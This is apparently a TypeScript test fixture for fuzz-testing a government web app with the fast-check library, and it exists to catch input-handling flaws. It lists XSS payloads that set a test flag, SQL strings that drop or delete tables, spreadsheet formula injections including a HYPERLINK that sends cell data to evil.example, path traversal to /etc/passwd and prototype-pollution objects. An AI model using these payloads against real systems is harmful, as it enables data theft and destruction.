import fc from "fast-check";

// Input a public government app should expect from careless users, broken clients and attackers.
// Shared by the schema properties (unit), the server-act properties (integration) and the browser
// test, so a new kind of hostile value reaches every layer at once.

/** Sets `window.__xss` when a browser ever runs it; the browser test asserts the flag stays unset. */
export const xssFlag = "__xss";

/** Each of these runs script if a page ever renders it as HTML instead of text. */
export const scriptPayloads = [
  `<script>window.${xssFlag}=1</script>`,
  `"><img src=x onerror="window.${xssFlag}=1">`,
  `'><svg onload=window.${xssFlag}=1>`,
  `<iframe srcdoc="<script>parent.${xssFlag}=1</script>"></iframe>`,
  `javascript:window.${xssFlag}=1`,
  `<a href="javascript:window.${xssFlag}=1">x</a>`,
  `{{constructor.constructor('window.${xssFlag}=1')()}}`,
] as const;

/** Text that is harmless in the app but means something to a database, a spreadsheet or a formatter. */
export const injectionText = [
  `' OR 1=1; DROP TABLE "User"; --`,
  `Robert'); DELETE FROM "Response" WHERE ('1'='1`,
  `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
  "=1+2",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1",
  "{name}",
  "{count, plural, one {# item} other {# items}}",
  "%s%n%x",
  "${process.env.NEXTAUTH_SECRET}",
  "__proto__",
  "../../etc/passwd",
  "C:\\Windows\\system32",
] as const;

/** Unicode that trips up naive code: lone surrogates, direction overrides, zero-width and combining marks, NUL. */
export const unicodeEdges = [
  "\uD800",
  "a\uDC00b",
  "\uDBFF\uDFFF",
  "\u202Egnp.exe",
  "\u2066isolated\u2069",
  "a\u200Db\u200Bc\u200Cd\u2060e",
  "\uFEFFbom",
  "Z\u0351\u0364\u036b\u0308\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a".repeat(20),
  "nul\u0000inside",
  "\u0000",
  "\u0007\u0008\u001b[31mred\u001b[0m",
  "line\r\nbreak\rold\nnew\u2028sep\u2029para",
  "𝕳𝖔𝖈 𝖙𝖆̣̂𝖕 👩🏽‍🏫🇻🇳",
  "\u00a0\u2007\u202f\u3000",
  "Ｔｏàn　ｔｈể",
  "١٢٣٫٤",
  // Vietnamese as some keyboards send it: base letters with combining diacritics (NFD).
  "Thành phố học tập Hồ Chí Minh, Quảng Ngãi, Đắk Lắk".normalize("NFD"),
  "Thành phố học tập Hồ Chí Minh, Quảng Ngãi, Đắk Lắk",
  "",
  " ",
  " \t\n ",
] as const;

/** 10^5 to 10^6 characters, each kind of text at that length. */
export const hugeString = fc
  .tuple(fc.integer({ min: 100_000, max: 1_000_000 }), fc.constantFrom("a", "ệ", "e\u0301", "<b>", "\uD83D\uDE00", " ", "9", "\u0000"))
  .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)));

/** Any hostile text; the huge ones are rarer so that a run stays quick. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...scriptPayloads, ...injectionText, ...unicodeEdges) },
  { weight: 3, arbitrary: fc.string({ unit: "binary", maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: fc.constantFrom(...unicodeEdges, ...scriptPayloads, "x", " "), maxLength: 8 }).map((parts) => parts) },
  { weight: 1, arbitrary: hugeString },
);

/** Text a form might actually hold: short, printable, with something hostile inside it. */
export const storableHostileText: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(...scriptPayloads, ...injectionText, ...unicodeEdges.filter((s) => s.trim() !== "")), fc.string({ unit: "grapheme", maxLength: 20 }))
  .map(([hostile, noise]) => `${noise}${hostile}${noise}`.trim() || "x");

/** Numbers that break arithmetic or storage, and number-like text. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(NaN, Infinity, -Infinity, -0, 0, -1, 0.5, -0.0001, 1e-300, Number.MIN_VALUE, Number.MAX_VALUE, -Number.MAX_VALUE, Number.MAX_SAFE_INTEGER + 2, 2 ** 31, -(2 ** 31) - 1, 1e21, 1e15 + 1, 2030.5),
  fc.double(),
  fc.integer({ min: -2_147_483_648, max: 2_147_483_647 }),
);

export const numberLikeText = fc.constantFrom("NaN", "Infinity", "-Infinity", "1e309", "-1e309", "0x10", "0b11", " 12 ", "1,5", "1.5", "1.420.000", "-0", "9".repeat(400), "1e-400", "١٢", "12abc", "");

/** What a client could send where a scalar is expected: React's server-action encoding carries all of these. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(null, undefined, true, false, {}, [], [null], [[[]]], new Date(Number.NaN), new Date(0), 10n ** 30n, -1n),
  fc.constant(null).map(() => new Map<unknown, unknown>([["a", 1]])),
  fc.constant(null).map(() => new Set<unknown>(["a"])),
  fc.constant(null).map(() => new Uint8Array([0, 1, 255])),
  fc.constant(null).map(() => JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}') as unknown),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }).map((list) => Object.fromEntries(list.map((k) => [k, k]))),
);

export const randomJson: fc.Arbitrary<unknown> = fc.jsonValue({ maxDepth: 3 });

/** Anything at all, hostile scalars first. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 1, arbitrary: numberLikeText },
  { weight: 3, arbitrary: wrongType },
  { weight: 2, arbitrary: randomJson },
);

/** `base` with some of `keys` replaced by hostile values or dropped; the rest stays as given. */
export function corrupt<T extends Record<string, unknown>>(base: T, keys: readonly (keyof T & string)[] = Object.keys(base)): fc.Arbitrary<Record<string, unknown>> {
  return fc
    .uniqueArray(fc.constantFrom(...keys), { minLength: 1, maxLength: Math.min(3, keys.length) })
    .chain((chosen) =>
      fc.tuple(...chosen.map(() => fc.option(hostileValue, { nil: undefined, freq: 8 }))).map((values) => {
        const copy: Record<string, unknown> = { ...base };
        chosen.forEach((key, i) => {
          if (values[i] === undefined) delete copy[key];
          else copy[key] = values[i];
        });
        return copy;
      }),
    );
}
